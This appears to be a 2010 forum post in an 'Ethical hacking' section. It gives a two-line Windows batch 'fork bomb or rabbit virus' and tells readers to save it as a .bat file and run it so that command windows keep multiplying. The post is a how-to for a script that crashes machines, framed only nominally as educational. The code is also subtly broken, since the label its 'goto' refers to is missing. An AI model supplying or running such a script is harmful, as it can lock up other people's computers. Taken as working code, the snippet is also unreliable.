1. We have moved from vBulletin to XenForo and you are viewing the site in the middle of the move. Though the functional aspect of everything is working fine, we are still working on other changes including the new design on Xenforo.
    Dismiss Notice

how to make a fork bomb

Discussion in 'Ethical hacking' started by VISHAL SINGH, Dec 3, 2010.


    VISHAL SINGH New Memberhello friend my self vishal singh ,today i tell u how you make a fork bomb or rabbit virus..
    note-this article only for educational purpose...
    so westart now...you open ur notepad and type the given code....

    Code: Cpp
    start %0
    goto:s

    after typing u save as .bat file and all type .then open it many cmd blockopen.....great:crazy:

Share This Page